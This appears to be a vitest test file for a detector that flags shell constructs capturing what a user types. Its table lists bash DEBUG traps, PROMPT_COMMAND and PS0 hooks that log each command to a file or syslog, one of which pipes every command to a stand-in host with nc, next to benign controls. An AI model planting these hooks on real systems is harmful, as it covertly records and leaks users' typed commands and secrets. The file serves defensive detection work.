import { expect, it } from "vitest";
import { effectsOf } from "../testing/read.js";

/** What of the shell itself writes down what is typed into it. */
const ROWS: readonly (readonly [command: string, records: boolean, why: string])[] = [
  ["trap 'echo \"$BASH_COMMAND\" >> /tmp/k' DEBUG; ls", true, "before each command"],
  ["trap 'echo \"$BASH_COMMAND\" | nc h.example 9' DEBUG; ls", true, "sent away"],
  ["trap 'echo \"+ $BASH_COMMAND\" >&2' DEBUG; ls", false, "a script shows what it does"],
  ["trap 'echo \"+ $BASH_COMMAND\"' DEBUG; ls", false, "the same, on its output"],
  ["trap 'echo \"$BASH_COMMAND\" >> log' ERR; ls", false, "only what failed"],
  ["trap 'rm -f x' EXIT", false, "cleaning up"],
  ["export PROMPT_COMMAND='history 1 | logger'", true, "after each command"],
  ["PROMPT_COMMAND='history 1 >> /tmp/k'", true, "into a file"],
  ["trap 'logger -t cmd \"$BASH_COMMAND\"' DEBUG", true, "into the system's log"],
  ["PROMPT_COMMAND='r=$?; logger \"$(history 1) [$r]\"'", true, "the same, behind something else"],
  ["trap 'echo \"$BASH_COMMAND # logger\"' DEBUG", false, "only its name"],
  ["PROMPT_COMMAND='history -a'", false, "into the history itself"],
  ["PS0='$(echo $BASH_COMMAND >> /tmp/k)'", true, "by a prompt"],
  ["PS1='$(git branch 2>/dev/null) $ '", false, "a prompt"],
];

it.each(ROWS)("P10: %s: %s (%s)", (command, records) => {
  expect(effectsOf(command).some((one) => one === "device.open keyboard capture")).toBe(records);
});
